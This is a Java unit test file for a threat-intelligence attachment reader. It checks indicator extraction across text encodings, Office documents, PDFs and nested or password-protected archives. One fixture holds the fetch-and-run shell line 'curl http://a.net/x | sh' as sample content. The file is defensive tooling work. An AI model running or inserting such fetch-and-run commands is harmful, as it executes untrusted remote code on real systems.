package io.github.iocenrichment.attachment;

import static io.github.iocenrichment.attachment.Samples.files;
import static io.github.iocenrichment.attachment.Samples.gzip;
import static io.github.iocenrichment.attachment.Samples.lockedOffice;
import static io.github.iocenrichment.attachment.Samples.lockedZip;
import static io.github.iocenrichment.attachment.Samples.sevenZip;
import static io.github.iocenrichment.attachment.Samples.tar;
import static io.github.iocenrichment.attachment.Samples.utf8;
import static io.github.iocenrichment.attachment.Samples.zip;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import io.github.iocenrichment.indicator.ContentKind;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** What each kind of file gives: the texts, each with the way to it. */
class AttachmentReaderTest {
    private static final String LINE = "C2 = 93[.]115[.]28[.]40 und grün-amboss.de\n";
    private final AttachmentReader reader = new AttachmentReader(Fixed.LIMITS, List.of("infected", "s3cret"));

    /** Every line: file name, content, then what must be read, as {@code path|text}. */
    static Stream<Arguments> readable() {
        return Stream.of(
                file("utf8.txt", utf8(LINE), "|" + LINE),
                file("utf8-mark.txt", utf8("\uFEFF" + LINE), "|" + LINE),
                file("utf16le-mark.txt", ("\uFEFF" + LINE).getBytes(StandardCharsets.UTF_16LE), "|" + LINE),
                file("utf16be-mark.txt", ("\uFEFF" + LINE).getBytes(StandardCharsets.UTF_16BE), "|" + LINE),
                file("utf16le.txt", LINE.getBytes(StandardCharsets.UTF_16LE), "|" + LINE),
                file("utf16be.log", LINE.getBytes(StandardCharsets.UTF_16BE), "|" + LINE),
                file("latin1.txt", LINE.getBytes(StandardCharsets.ISO_8859_1), "|" + LINE),
                file("cp1252.txt", "„mossy-anvil.net“ – 5 €".getBytes(Charset.forName("windows-1252")), "|„mossy-anvil.net“ – 5 €"),
                file("no-extension", utf8("1.2.3.4"), "|1.2.3.4"),
                file("lies.pdf", utf8(LINE), "|" + LINE),
                file("report.json", utf8("{\"ioc\":{\"u\":\"https:\\/\\/a.net\\/x\",\"n\":\"one\\nevil.net\"},\"v\":[1,true]}"),
                        "|\"u\": \"https://a.net/x\"", "|one\nevil.net"),
                file("lines.json", utf8("{\"a\":\"a.net\"}\n{\"a\":\"b\\u002enet\"}\n"), "|\"a.net\"", "|\"b.net\""),
                file("nearly.json", utf8("{\"a\": a.net, oops"), "|{\"a\": a.net, oops"),
                file("table.csv", utf8("url,seen\nhttp://a.net/b,2024-01-01\n\"http://a.net/c,d\",2024-01-02\n"),
                        "|http://a.net/b\t2024-01-01", "|http://a.net/c,d\t2024-01-02"),
                file("semicolons.csv", utf8("url;seen\r\nhttp://a.net/b;x\r\n"), "|http://a.net/b\tx"),
                file("table.txt", utf8("url,seen\nhttp://a.net/b,2024-01-01\n"), "|http://a.net/b\t2024-01-01"),
                file("app.log", utf8("10:11:12,123 GET http://a.net/b?c=1,2\n10:11:13,123 GET http://a.net/b?c=3,4\n"), "|http://a.net/b?c=1,2\n"),
                file("prose.txt", utf8("Hello, all.\nThis is http://a.net/b,c, really."), "|http://a.net/b,c, really."),
                file("syslog.log", utf8("<13>Oct 11 22:14:15 fw drop 1.2.3.4\n"), "|<13>Oct 11 22:14:15 fw drop 1.2.3.4"),
                file("link.txt", utf8("<https://a.net/b> is bad"), "|<https://a.net/b> is bad"),
                file("event.xml", utf8("<?xml version='1.0'?><e xmlns='http://schemas.example/x'><d Name='Ip'>1.2.3.4</d><d u='http://a.net/x'/></e>"),
                        "|1.2.3.4", "|u=\"http://a.net/x\""),
                file("cut.xml", utf8("<?xml version='1.0'?><e xmlns='http://schemas.example/x'><d>a.net</d><d u='http://b.net/x'/><d>c.net"), "|a.net",
                        "|http://b.net/x",
                        "|c.net"),
                file("wrong.xml", utf8("<?xml version='1.0'?><e><d>a.net</e><f>b.net &copy; c.net</f>"), "|a.net", "|b.net &copy; c.net"),
                file("events.xml", utf8("<Event xmlns='http://schemas.example/e'><D>1.2.3.4</D></Event>\n"
                        + "<Event xmlns='http://schemas.example/e'><D>5.6.7.8</D></Event>\n"),
                        "|1.2.3.4", "|5.6.7.8"),
                file("drawing.svg", utf8("<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">"
                        + "<a xlink:href=\"http://a.net/x\"><text>b.net</text></a></svg>"), "|href=\"http://a.net/x\"", "|b.net"),
                file("note.rtf", utf8("{\\rtf1\\ansi{\\fonttbl{\\f0 Arial;}}\\f0 see {\\field{\\*\\fldinst{HYPERLINK \"http://rtf.net/x\"}}"
                        + "{\\fldrslt{click}}} at 93.\\b 115\\b0 .28.40 gr\\'fcn-amboss.de\\par}"),
                        "|93.115.28.40 grün-amboss.de", "|http://rtf.net/x"),
                file("doc.docx", Documents.docx(), "|seen at mossy-anvil[.]net", "|left.example.net\tright.example.net", "header 1|header.example.net",
                        "footnotes|footnote.example.net", "link targets|https://target.mossy-anvil.net/x?a=1&b=2"),
                file("dragged.docx", Documents.docxWith("a.zip", zip("b.txt", utf8("dragged.net"))),
                        "word/embeddings/oleObject1.bin > a.zip > b.txt|dragged.net"),
                file("doc.zip", Documents.docx(), "|seen at mossy-anvil[.]net"),
                file("book.xlsx", Documents.workbook(false), "sheet Data, cell B7|Firmware\t8.1.0.22", "sheet Data, cell D7|hxxp://cell.mossy-anvil.net/a",
                        "sheet Data, cell G7|http://formula.mossy-anvil.net/c", "sheet Second, cell A1|second.example.net",
                        "link targets|http://link.mossy-anvil.net/b"),
                file("headed.xlsx", Documents.headedWorkbook(), "sheet List, cell B2|\tVersion\nAgent\t10.0.1.2",
                        "sheet List, cell C2|\tAddress\n\t93.115.28.40"),
                file("book.xls", Documents.workbook(true), "|Firmware\t8.1.0.22", "|hxxp://cell.mossy-anvil.net/a", "|second.example.net",
                        "|http://link.mossy-anvil.net/b"),
                file("show.pptx", Documents.slides(), "slide 1|slide.mossy-anvil.net", "link targets|http://button.mossy-anvil.net/x"),
                file("show.ppt", Documents.oldSlides(), "|oldslide.mossy-anvil.net"),
                file("text.odt", zip(files("mimetype", "application/vnd.oasis.opendocument.text", "META-INF/manifest.xml", "<m/>", "content.xml",
                        "<o:document-content xmlns:o='urn:o' xmlns:t='urn:t' xmlns:x='http://www.w3.org/1999/xlink'><t:p>odt.<t:span>example.net</t:span></t:p>"
                                + "<t:a x:href='http://a.net/odt'>x</t:a></o:document-content>")), "|odt.example.net", "|http://a.net/odt"),
                file("paper.pdf", Documents.pdf(List.of(List.of("first 1.2.3.4"), List.of("second.example.net")), List.of("http://a.net/pdf")),
                        "page 1|first 1.2.3.4", "page 1|http://a.net/pdf", "page 2|second.example.net"),
                file("owner-locked.pdf", Documents.pdf(List.of(List.of("open 1.2.3.4")), List.of(), ""), "page 1|open 1.2.3.4"),
                file("locked.pdf", Documents.pdf(List.of(List.of("locked 1.2.3.4")), List.of(), "s3cret"), "page 1|locked 1.2.3.4"),
                file("files.zip", zip(files("a.txt", "a.net", "in/b.txt", "b.net")), "a.txt|a.net", "in/b.txt|b.net"),
                file("nested.zip", zip("outer.zip", zip("inner.zip", zip("a.txt", utf8("a.net")))), "outer.zip > inner.zip > a.txt|a.net"),
                file("log.gz", gzip(utf8("a.net")), "log|a.net"),
                file("mail.eml.gz", gzip(utf8("From: a@b.net\nTo: c@d.net\n\nhello e.net")), "mail.eml > text part|hello e.net"),
                file("files.tgz", gzip(tar(files("a.txt", "a.net", "b.txt", "b.net"))), "files.tar > a.txt|a.net", "files.tar > b.txt|b.net"),
                file("files.7z", sevenZip("a.txt", utf8("a.net"), null), "a.txt|a.net"),
                file("locked.7z", sevenZip("a.txt", utf8("a.net"), "s3cret"), "a.txt|a.net"),
                file("crypto.zip", lockedZip("a.txt", utf8("a.net"), "infected", false), "a.txt|a.net"),
                file("aes.zip", lockedZip("a.txt", utf8("a.net"), "infected", true), "a.txt|a.net"),
                file("second-password.zip", lockedZip("a.txt", utf8("a.net"), "s3cret", true), "a.txt|a.net"),
                file("twice-locked.zip", lockedZip("b.zip", lockedZip("a.txt", utf8("a.net"), "infected", false), "s3cret", true), "b.zip > a.txt|a.net"),
                file("locked.xlsx", lockedOffice(Documents.workbook(false), "s3cret"), "sheet Second, cell A1|second.example.net"),
                file("macro-less.bin", utf8("#!/bin/sh\ncurl http://a.net/x | sh\n"), "|curl http://a.net/x | sh"));
    }

    private static Arguments file(String name, byte[] content, String... expected) {
        return arguments(name, content, List.of(expected));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("readable")
    void isReadByContent(String name, byte[] content, List<String> expected) {
        AttachmentText text = reader.read(name, content);

        assertThat(text.unread()).isEmpty();
        assertThat(expected).allSatisfy(line -> {
            int bar = line.indexOf('|');
            assertThat(Fixed.at(text, line.substring(0, bar))).contains(line.substring(bar + 1));
        });
        // what is handed over as HTML keeps its markup for the extractor
        assertThat(text.pieces()).filteredOn(piece -> piece.kind() == ContentKind.PLAIN)
                .allSatisfy(piece -> assertThat(piece.text()).doesNotContain("schemas.").doesNotContain("www.w3.org"));
    }

    @Test
    void htmlKeepsItsMarkupForTheExtractor() {
        String page = "<p>hi <a href=\"https://a.net/q?a=1&amp;b=2\">https://b.net/</a>";

        assertThat(reader.read("page.txt", utf8(page)).pieces()).containsExactly(new TextPiece("", ContentKind.HTML, page));
    }

    @Test
    void htmlThatBeginsWithWordsIsKnownByItsName() {
        byte[] page = utf8("Hello, <a href='http://a.net/'>x</a>");

        assertThat(reader.read("page.HTM", page).pieces()).extracting(TextPiece::kind).containsExactly(ContentKind.HTML);
        assertThat(reader.read("page.txt", page).pieces()).extracting(TextPiece::kind).containsExactly(ContentKind.PLAIN);
    }

    @Test
    void htmlIsDecodedByTheCharsetItNames() {
        byte[] page = "<html><meta charset=\"windows-1251\"><p>пример.рф".getBytes(Charset.forName("windows-1251"));

        assertThat(reader.read("page.html", page).pieces()).singleElement().extracting(TextPiece::text).asString().contains("пример.рф");
    }

    /** Every line: file name, content, then what must be named as {@code name|reason}. */
    static Stream<Arguments> unreadable() {
        return Stream.of(
                file("empty.docx", new byte[0], "empty.docx|empty file"),
                file("photo.png", new byte[] {(byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10, 0, 0, 0, 13}, "photo.png|damaged picture"),
                file("noise.bin", new byte[] {0, 1, 2, 3, 4, 5, 6, 7, 0, 1, 2, 3}, "noise.bin|unsupported file type application/octet-stream"),
                file("locked.zip", lockedZip("a.txt", utf8("a.net"), "unknown", true), "locked.zip > a.txt|password unknown"),
                file("crypto.zip", lockedZip("a.txt", utf8("a.net"), "unknown", false), "crypto.zip > a.txt|password unknown"),
                file("locked.7z", sevenZip("a.txt", utf8("a.net"), "unknown"), "locked.7z|password unknown"),
                file("locked.pdf", Documents.pdf(List.of(List.of("x")), List.of(), "unknown"), "locked.pdf|password unknown"),
                file("locked.docx", lockedOffice(Documents.docx(), "unknown"), "locked.docx|password unknown"),
                file("for-certificates.pdf", FormatSamples.pdfForCertificates(), "for-certificates.pdf|encrypted for certificates, not with a password"),
                file("zstandard.zip", FormatSamples.zipWithZstandard(), "zstandard.zip > a.txt|unsupported compression method 93"),
                file("broken.pdf", utf8("%PDF-1.7\nnothing here"), "broken.pdf|damaged PDF"),
                file("broken.zip", utf8("PK\u0003\u0004 nothing here"), "broken.zip|damaged ZIP archive: its directory is missing"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("unreadable")
    void isNamedWithItsReason(String name, byte[] content, List<String> expected) {
        AttachmentText text = reader.read(name, content);

        assertThat(text.unread().stream().map(unread -> unread.name() + "|" + unread.reason())).containsAll(expected);
    }

    @Test
    void oneUnsupportedCompressionDoesNotHideTheOthers() {
        AttachmentText text = reader.read("mixed.zip", FormatSamples.zipWithZstandard());

        assertThat(Fixed.at(text, "b.txt")).contains(FormatSamples.ADDRESS);
        assertThat(text.unread()).containsExactly(new Unread("mixed.zip > a.txt", "unsupported compression method 93"));
    }

    @Test
    void oneBadFileDoesNotHideTheOthers() {
        byte[] archive = zip(files("a.txt", "a.net", "bad.pdf", "%PDF-1.4 nothing", "z.txt", "z.net"));

        AttachmentText text = reader.read("mixed.zip", archive);

        assertThat(text.pieces().stream().map(TextPiece::text).collect(Collectors.toList())).containsExactly("a.net", "z.net");
        assertThat(text.unread()).containsExactly(new Unread("mixed.zip > bad.pdf", "damaged PDF"));
    }
}
